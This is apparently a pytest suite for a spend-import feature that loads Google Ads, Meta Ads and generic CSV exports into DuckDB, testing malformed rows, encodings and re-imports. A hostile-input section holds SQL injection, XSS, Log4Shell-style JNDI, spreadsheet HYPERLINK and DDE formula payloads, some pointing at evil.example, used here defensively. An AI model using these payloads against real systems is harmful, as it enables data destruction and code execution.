"""Spend import on real DuckDB files: the three layouts, messy files, bad rows, re-imports."""

from __future__ import annotations

import csv
import re
import tempfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clarion.core.clock import SimulatedClock
from clarion.core.errors import InvalidInput
from clarion.stores.events import EventStore
from clarion.tracking.spend import ImportReport, current_spend, errors_path_for, import_spend

WS = "ws_1"

GENERIC = """\
date,campaign,channel,ad_set,audience,creative,impressions,clicks,cost,currency,conversions,reach
2027-03-01,spring-launch,search,brand,ops-managers,ad-1,1000,50,120.50,EUR,3,800
2027-03-01,Spring Sale,social,lookalike,,,2000,40,80.00,EUR,,1500
2027-03-02,spring-launch,search,brand,ops-managers,ad-1,1100,55,130.25,EUR,4,850
"""

GOOGLE_ADS = """\
Campaign performance report
"March 1, 2027 - March 2, 2027"
Day,Campaign,Ad group,Impr.,Clicks,Cost,Currency code,Conversions,Avg. CPC
2027-03-01,Brand - DE,Exact,"12,345",678,"1,234.56",EUR,12.00,1.82
2027-03-02,Brand - DE,Exact,"11,000",600,"1,100.00",EUR,10.50,1.83
Total: Account,--,--,"23,345","1,278","2,334.56",EUR,22.50,1.83
Total: Search,--,--,"23,345","1,278","2,334.56",EUR,22.50,1.83
"""

META_ADS = """\
Reporting starts,Reporting ends,Campaign name,Ad set name,Ad name,Impressions,Reach,\
Link clicks,Amount spent (EUR),Results,Result indicator
2027-03-01,2027-03-02,,,,9000,7000,150,90.20,5,
2027-03-01,2027-03-01,Spring – Lookalike,LAL 1%,Video A,5000,4200,80,45.10,3,actions:lead
2027-03-02,2027-03-02,Spring – Lookalike,LAL 1%,Video A,4000,3300,70,45.10,,actions:lead
"""


@pytest.fixture
def clock() -> SimulatedClock:
    return SimulatedClock(datetime(2027, 4, 1, 9, 0, tzinfo=UTC))


@pytest.fixture
def events(tmp_path: Path, clock: SimulatedClock) -> Iterator[EventStore]:
    with EventStore.open(f"duckdb://{tmp_path / 'e.duckdb'}", clock=clock) as store:
        store.create_schema()
        yield store


def write(tmp_path: Path, text: str, name: str = "spend.csv", encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def run(events: EventStore, clock: SimulatedClock, path: Path, **options: Any) -> ImportReport:
    return import_spend(events, path, workspace_id=WS, clock=clock, **options)


def stored(events: EventStore) -> list[dict[str, Any]]:
    table = current_spend(events, WS)
    rows: list[dict[str, Any]] = table.order_by(["day", "campaign_id"]).to_pyarrow().to_pylist()
    return rows


def raw_count(events: EventStore) -> int:
    return int(events.table("ad_spend").count().execute())


def cost_per_day(events: EventStore) -> dict[date, float]:
    table = current_spend(events, WS)
    result = table.group_by("day").aggregate(cost=table.cost.sum()).to_pyarrow().to_pylist()
    return {row["day"]: round(row["cost"], 2) for row in result}


def error_lines(path: Path) -> list[dict[str, str]]:
    with errors_path_for(path).open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# --- the three layouts --------------------------------------------------------------------


def test_generic_layout_stores_every_column(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    report = run(events, clock, write(tmp_path, GENERIC))
    assert (report.layout, report.rows_read, report.rows_imported) == ("generic", 3, 3)
    assert report.errors_path is None and not errors_path_for(tmp_path / "spend.csv").exists()
    assert (report.first_day, report.last_day, report.days) == (
        date(2027, 3, 1),
        date(2027, 3, 2),
        2,
    )
    assert report.cost_by_currency == {"EUR": Decimal("330.75")}
    first = stored(events)[1]
    assert first == {
        "workspace_id": WS,
        "day": date(2027, 3, 1),
        "campaign_id": "spring-launch",
        "channel": "search",
        "ad_set": "brand",
        "audience": "ops-managers",
        "creative_id": "ad-1",
        "impressions": 1000,
        "reach": 800,
        "clicks": 50,
        "cost": 120.5,
        "currency": "EUR",
        "conversions": 3,
        "imported_at": report.imported_at,
        "source": "csv:generic:spend.csv",
    }
    sale = stored(events)[0]
    assert (sale["campaign_id"], sale["audience"], sale["conversions"]) == (
        "Spring Sale",
        None,
        None,
    )


def test_google_ads_report_skips_title_lines_and_total_rows(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    report = run(events, clock, write(tmp_path, GOOGLE_ADS))
    assert report.layout == "google_ads"
    assert (report.rows_imported, report.rows_rejected, report.rows_skipped) == (2, 0, 2)
    assert report.ignored_columns == ("Avg. CPC",)
    rows = stored(events)
    assert [(r["channel"], r["ad_set"], r["impressions"], r["cost"]) for r in rows] == [
        ("search", "Exact", 12345, 1234.56),
        ("search", "Exact", 11000, 1100.0),
    ]
    # Google's attributed conversions are fractional; the column holds whole numbers.
    assert [r["conversions"] for r in rows] == [12, 10]


def test_meta_ads_export_takes_the_currency_from_the_header_and_skips_the_summary(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    report = run(events, clock, write(tmp_path, META_ADS))
    assert report.layout == "meta_ads"
    assert (report.rows_imported, report.rows_skipped) == (2, 1)
    rows = stored(events)
    assert {r["currency"] for r in rows} == {"EUR"}
    assert [(r["channel"], r["creative_id"], r["reach"], r["clicks"]) for r in rows] == [
        ("social", "Video A", 4200, 80),
        ("social", "Video A", 3300, 70),
    ]


def test_a_meta_row_spanning_several_days_is_refused(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    text = META_ADS + "2027-03-01,2027-03-31,Spring,LAL,Video,1,1,1,1.00,,\n"
    report = run(events, clock, write(tmp_path, text))
    assert report.rows_rejected == 1
    [line] = error_lines(tmp_path / "spend.csv")
    assert line["row"] == "5" and line["field"] == "Reporting ends"
    assert "daily breakdown" in line["problem"]


def test_channel_option_replaces_the_layout_default(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    run(events, clock, write(tmp_path, GOOGLE_ADS), channel="Display")
    assert {r["channel"] for r in stored(events)} == {"display"}


def test_explicit_format_must_match_the_header(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    with pytest.raises(InvalidInput, match="meta_ads layout") as caught:
        run(events, clock, write(tmp_path, GOOGLE_ADS), layout="meta_ads")
    assert "row 3 as meta_ads, lacking Campaign name, Amount spent (EUR)" in str(
        caught.value.problems
    )
    assert raw_count(events) == 0


# --- messy but valid files ----------------------------------------------------------------


def test_utf8_bom_is_ignored(tmp_path: Path, events: EventStore, clock: SimulatedClock) -> None:
    report = run(events, clock, write(tmp_path, GENERIC, encoding="utf-8-sig"))
    assert (report.layout, report.rows_imported) == ("generic", 3)


def test_google_excel_csv_utf16_with_tabs(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    tabbed = "\n".join(
        "\t".join(cells) for cells in csv.reader(GOOGLE_ADS.splitlines())
    )  # Google's "Excel CSV" download: UTF-16 with a BOM, tab-separated
    report = run(events, clock, write(tmp_path, tabbed + "\n", encoding="utf-16"))
    assert (report.layout, report.rows_imported, report.rows_skipped) == ("google_ads", 2, 2)
    assert report.cost_by_currency == {"EUR": Decimal("2334.56")}


def test_semicolons_mean_decimal_commas(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    text = (
        "Date;Campaign;Channel;Impressions;Clicks;Cost;Currency\n"
        "01.03.2027;Frühling;display;12.345;1.002;1.234,56;EUR\n"
        "2027-03-02;Frühling;display;99;3;0,5;eur\n"
        "2027-03-03;Frühling;display;99;3;12.50;EUR\n"
    )
    report = run(events, clock, write(tmp_path, text))
    assert (report.rows_imported, report.rows_rejected) == (2, 1)
    rows = stored(events)
    assert [(r["impressions"], r["clicks"], r["cost"]) for r in rows] == [
        (12345, 1002, 1234.56),
        (99, 3, 0.5),
    ]
    [line] = error_lines(tmp_path / "spend.csv")
    assert (line["row"], line["field"]) == ("4", "Cost")
    assert "decimal mark is ','" in line["problem"]


def test_quoted_newline_in_a_campaign_name_keeps_rows_aligned(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    text = (
        "date,campaign,channel,cost,currency\n"
        '2027-03-01,"Spring\r\nLaunch",search,10.00,EUR\n'
        "2027-03-02,Summer,search,-1,EUR\n"
    )
    report = run(events, clock, write(tmp_path, text))
    assert report.rows_imported == 1
    assert stored(events)[0]["campaign_id"] == "Spring Launch"
    # A spreadsheet shows the quoted line break inside one cell: the bad row is row 3.
    assert [(e["row"], e["field"]) for e in error_lines(tmp_path / "spend.csv")] == [("3", "cost")]


def test_headers_are_matched_ignoring_case_spaces_and_underscores(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    text = " DATE , Campaign,CHANNEL,Ad Set,  cost ,Currency\n2027-03-01,a,search,x,1,EUR\n"
    report = run(events, clock, write(tmp_path, text))
    assert report.rows_imported == 1 and stored(events)[0]["ad_set"] == "x"


def test_campaign_names_equal_to_a_campaign_key_are_stored_as_its_id(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    run(events, clock, write(tmp_path, GENERIC), campaign_ids={"spring-launch": "cmp_1"})
    assert sorted({r["campaign_id"] for r in stored(events)}) == ["Spring Sale", "cmp_1"]


# --- bad rows -----------------------------------------------------------------------------


def test_three_bad_rows_of_a_hundred(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    lines = ["date,campaign,channel,impressions,clicks,cost,currency"]
    for i in range(100):
        day, cost, currency = f"2027-03-{i % 28 + 1:02d}", "10.00", "EUR"
        if i == 9:
            cost = "-5.00"
        elif i == 49:
            day = "2027-02-30"
        elif i == 89:
            currency = "XYZ"
        lines.append(f"{day},campaign-{i},search,100,{i},{cost},{currency}")
    path = write(tmp_path, "\n".join(lines) + "\n")
    report = run(events, clock, path)
    assert (report.rows_read, report.rows_imported, report.rows_rejected) == (100, 97, 3)
    assert report.errors_path == errors_path_for(path)
    assert report.cost_by_currency == {"EUR": Decimal("970.00")}
    assert raw_count(events) == 97
    found = [(e["row"], e["field"], e["problem"]) for e in error_lines(path)]
    assert found == [
        ("11", "cost", "'-5.00' is negative; it must be 0 or more"),
        ("51", "date", "'2027-02-30' is not a real day"),
        ("91", "currency", "'XYZ' is not a currency Clarion knows (e.g. EUR, USD)"),
    ]
    assert [(p.row, p.field) for p in report.problems] == [
        (11, "cost"),
        (51, "date"),
        (91, "currency"),
    ]


BAD_CELLS = [
    # (column, value, expected problem fragment)
    ("campaign", "", "is required"),
    ("campaign", " " * 12, "is required"),
    ("campaign", "x" * 201, "201 characters long; at most 200"),
    ("campaign", "bell\x07", "control character U+0007"),
    ("campaign", "evil\u202egnp.exe", "control character U+202E"),
    ("channel", "Paid Search!", "is not a channel name"),
    ("channel", "", "is required (or pass --channel)"),
    ("date", "03/01/2027", "ambiguous"),
    ("date", "2027-04-03", "in the future (the latest day accepted is 2027-04-02)"),
    ("date", "1999-12-31", "is before 2000-01-01"),
    ("date", "yesterday", "is not a day"),
    ("impressions", "12.5", "is not a whole number"),
    ("impressions", "1,23", "is not a number"),
    ("clicks", "-1", "is negative"),
    ("clicks", "9" * 20, "implausibly large"),
    ("cost", "", "is required"),
    ("cost", "€12", "is not a number"),
    ("cost", "1e3", "is not a number"),
    ("cost", "NaN", "is not a number"),
    ("currency", "", "is required"),
]


@pytest.mark.parametrize(("column", "value", "fragment"), BAD_CELLS)
def test_a_bad_cell_rejects_its_row_and_says_why(
    tmp_path: Path,
    events: EventStore,
    clock: SimulatedClock,
    column: str,
    value: str,
    fragment: str,
) -> None:
    good = {
        "date": "2027-03-01",
        "campaign": "c",
        "channel": "search",
        "impressions": "1",
        "clicks": "1",
        "cost": "1.00",
        "currency": "EUR",
    }
    bad = {**good, column: value}
    buffer_path = tmp_path / "spend.csv"
    with buffer_path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(good))
        writer.writeheader()
        writer.writerows([good, bad, good])
    report = run(events, clock, buffer_path)
    assert (report.rows_imported, report.rows_rejected) == (2, 1)
    [line] = error_lines(buffer_path)
    assert (line["row"], line["field"]) == ("3", column)
    assert fragment in line["problem"]


def test_yen_amounts_have_no_decimals(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    text = (
        "date,campaign,channel,cost,currency\n"
        "2027-03-01,a,search,100.5,JPY\n"
        "2027-03-01,b,search,100,JPY\n"
    )
    report = run(events, clock, write(tmp_path, text))
    assert report.rows_imported == 1
    assert "more than 0 decimals for JPY" in error_lines(tmp_path / "spend.csv")[0]["problem"]


def test_rows_with_the_wrong_number_of_cells(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    text = (
        "date,campaign,channel,cost,currency\n"
        "2027-03-01,Spring, Launch,search,1.00,EUR\n"  # an unquoted comma shifts every value
        "2027-03-01,short,search\n"
        "2027-03-01,trailing,search,1.00,EUR,,\n"  # empty trailing cells are harmless
    )
    report = run(events, clock, write(tmp_path, text))
    assert report.rows_imported == 1
    problems = [(e["row"], e["field"], e["problem"]) for e in error_lines(tmp_path / "spend.csv")]
    assert problems == [
        ("2", "(row)", "has 6 cells but the header has 5 (an unquoted delimiter inside a value?)"),
        ("3", "(row)", "has 3 cells but the header has 5"),
    ]


def test_bytes_that_are_not_utf8_reject_only_their_row(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    path = tmp_path / "spend.csv"
    path.write_bytes(
        b"date,campaign,channel,cost,currency\n"
        b"2027-03-01,Fr\xfchling,search,1.00,EUR\n"  # Latin-1, not UTF-8
        b"2027-03-01,Spring,search,1.00,EUR\n"
    )
    report = run(events, clock, path)
    assert (report.rows_imported, report.rows_rejected) == (1, 1)
    assert "not valid UTF-8" in error_lines(path)[0]["problem"]


# --- hostile input ------------------------------------------------------------------------

HOSTILE = [
    "'; DROP TABLE ad_spend;--",
    "<script>alert('x')</script>",
    'Robert"); DELETE FROM ad_spend WHERE ("1"="1',
    '=HYPERLINK("http://evil.example","click")',
    "${jndi:ldap://evil.example/a}",
    "名前 🚀 ñ",
]


def test_hostile_strings_are_stored_verbatim_as_data(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    path = tmp_path / "spend.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["date", "campaign", "channel", "ad_set", "creative", "cost", "currency"])
        for i, value in enumerate(HOSTILE):
            writer.writerow([f"2027-03-0{i + 1}", value, "social", value, value, "1.00", "EUR"])
    report = run(events, clock, path)
    assert report.rows_imported == len(HOSTILE)
    rows = stored(events)
    assert sorted(r["campaign_id"] for r in rows) == sorted(HOSTILE)
    assert all(r["ad_set"] == r["creative_id"] == r["campaign_id"] for r in rows)
    assert raw_count(events) == len(HOSTILE)  # the table is still there


def test_formula_like_values_never_start_a_cell_of_the_error_report(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    text = (
        "date,campaign,channel,clicks,cost,currency\n"
        "2027-03-01,a,search,\"=cmd|' /C calc'!A0\",1,EUR\n"
    )
    path = write(tmp_path, text)
    run(events, clock, path)
    with errors_path_for(path).open(encoding="utf-8", newline="") as handle:
        for line in csv.reader(handle):
            assert all(not cell.startswith(("=", "+", "-", "@")) for cell in line)


def test_a_huge_line_is_skipped_without_holding_it(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    path = tmp_path / "spend.csv"
    with path.open("w", encoding="utf-8") as handle:
        handle.write("date,campaign,channel,cost,currency\n")
        handle.write("2027-03-01,before,search,1.00,EUR\n")
        handle.write("2027-03-01," + "A" * 5_000_000 + ",search,1.00,EUR\n")
        handle.write("2027-03-01,after,search,1.00,EUR\n")
    report = run(events, clock, path)
    assert (report.rows_imported, report.rows_rejected) == (2, 1)
    [line] = error_lines(path)
    assert line["row"] == "3" and "longer than" in line["problem"]


def test_an_unterminated_quote_costs_rows_not_the_import(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    body = "".join(f"2027-03-01,filler {i},search,1.00,EUR\n" for i in range(4000))
    text = (
        "date,campaign,channel,cost,currency\n"
        "2027-03-01,good,search,1.00,EUR\n"
        '2027-03-01,"never closed,search,1.00,EUR\n' + body + "2027-03-02,last,search,1.00,EUR\n"
    )
    report = run(events, clock, write(tmp_path, text))
    # The open quote swallows lines until csv's field limit; reading then resumes line by line.
    assert report.rows_rejected >= 1 and report.rows_imported >= 2
    assert {"good", "last"} <= {r["campaign_id"] for r in stored(events)}
    assert "cannot be read as CSV" in error_lines(tmp_path / "spend.csv")[0]["problem"]


# --- whole-file problems: nothing is written ----------------------------------------------


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (b"", "is empty"),
        (b"\n\n", "is empty"),
        (b"PK\x03\x04\x14\x00\x06\x00binary", "Excel workbook"),
        (b"name,email\nAda,ada@example.com\n", "no header row of any known layout"),
        (b"date,campaign,cost\n2027-03-01,a,1\n", "no channel column"),
        (b"Day,Campaign,Cost\n2027-03-01,a,1\n", "no currency column"),
        (b"date,campaign,channel,cost,cost,currency\n", "cost more than once"),
    ],
)
def test_a_file_of_the_wrong_shape_is_refused_whole(
    tmp_path: Path, events: EventStore, clock: SimulatedClock, content: bytes, fragment: str
) -> None:
    path = tmp_path / "spend.csv"
    path.write_bytes(content)
    with pytest.raises(InvalidInput) as caught:
        run(events, clock, path)
    assert fragment in str(caught.value) + str(caught.value.problems)
    assert raw_count(events) == 0
    assert not errors_path_for(path).exists()


def test_missing_file_and_bad_options_are_refused(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    with pytest.raises(InvalidInput, match="does not exist"):
        run(events, clock, tmp_path / "nope.csv")
    with pytest.raises(InvalidInput, match="--channel"):
        run(events, clock, write(tmp_path, GENERIC), channel="Paid Search!")
    with pytest.raises(InvalidInput, match="--currency"):
        run(events, clock, write(tmp_path, GENERIC), currency="EURO")


def test_a_currency_option_fills_files_without_one(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    report = run(
        events, clock, write(tmp_path, "Day,Campaign,Cost\n2027-03-01,a,100\n"), currency="jpy"
    )
    assert report.cost_by_currency == {"JPY": Decimal(100)}


# --- importing again ----------------------------------------------------------------------


def test_reimporting_the_same_file_does_not_double_the_spend(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    path = write(tmp_path, GOOGLE_ADS)
    run(events, clock, path)
    before = cost_per_day(events)
    again = run(events, clock, path)  # the simulated clock has not moved: still a newer import
    assert cost_per_day(events) == before == {date(2027, 3, 1): 1234.56, date(2027, 3, 2): 1100.0}
    assert raw_count(events) == 4  # append-only: the older rows stay, superseded
    assert again.imported_at > min(
        r["imported_at"] for r in events.table("ad_spend").to_pyarrow().to_pylist()
    )


def test_a_corrected_export_replaces_only_the_rows_it_reports(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    run(events, clock, write(tmp_path, GENERIC, name="march.csv"))
    corrected = (
        "date,campaign,channel,ad_set,audience,creative,cost,currency\n"
        "2027-03-02,spring-launch,search,brand,ops-managers,ad-1,99.99,EUR\n"
    )
    run(events, clock, write(tmp_path, corrected, name="fix.csv"))
    assert cost_per_day(events) == {date(2027, 3, 1): 200.5, date(2027, 3, 2): 99.99}
    sources = {r["day"]: r["source"] for r in stored(events) if r["campaign_id"] == "spring-launch"}
    assert sources == {
        date(2027, 3, 1): "csv:generic:march.csv",
        date(2027, 3, 2): "csv:generic:fix.csv",
    }


def test_a_stale_error_report_goes_when_the_file_is_fixed(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    path = write(tmp_path, GENERIC.replace("120.50", "-1"))
    assert run(events, clock, path).errors_path is not None
    path.write_text(GENERIC, encoding="utf-8")
    report = run(events, clock, path)
    assert report.errors_path is None and not errors_path_for(path).exists()
    assert cost_per_day(events)[date(2027, 3, 1)] == 200.5


def test_workspaces_do_not_see_each_others_spend(
    tmp_path: Path, events: EventStore, clock: SimulatedClock
) -> None:
    path = write(tmp_path, GENERIC)
    run(events, clock, path)
    import_spend(events, path, workspace_id="ws_2", clock=clock)
    assert cost_per_day(events) == {date(2027, 3, 1): 200.5, date(2027, 3, 2): 130.25}
    assert raw_count(events) == 6


# --- any text at all ----------------------------------------------------------------------

_ANY_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=25)


@settings(max_examples=40, deadline=None)
@given(
    rows=st.lists(
        st.tuples(
            st.one_of(st.just("2027-03-01"), _ANY_TEXT),
            st.one_of(st.just("Spring"), _ANY_TEXT),
            st.one_of(st.just("search"), _ANY_TEXT),
            st.one_of(st.just("12.50"), st.just("1,234.5"), _ANY_TEXT),
            st.one_of(st.just("EUR"), _ANY_TEXT),
        ),
        max_size=15,
    )
)
def test_any_cells_end_as_a_stored_row_a_reported_row_or_a_skipped_one(
    rows: list[tuple[str, ...]],
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzz.csv"
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle)
            writer.writerow(["date", "campaign", "channel", "cost", "currency"])
            writer.writerows(rows)
        clock = SimulatedClock(datetime(2027, 4, 1, tzinfo=UTC))
        with EventStore.open("duckdb://:memory:", clock=clock) as events:
            events.create_schema()
            report = run(events, clock, path)
            assert report.rows_read + report.rows_skipped == len(rows)
            assert raw_count(events) == report.rows_imported
            reported = {int(e["row"]) for e in error_lines(path)} if report.errors_path else set()
            assert len(reported) == report.rows_rejected
            names = [r["campaign_id"] for r in stored(events)]
        # What is stored is what was written, trimmed and with line breaks folded: never more.
        assert set(names) <= {_cleaned(cells_[1]) for cells_ in rows}


def _cleaned(name: str) -> str:
    return re.sub(r"[\t\n\r\x85\u2028\u2029]+", " ", name.strip())
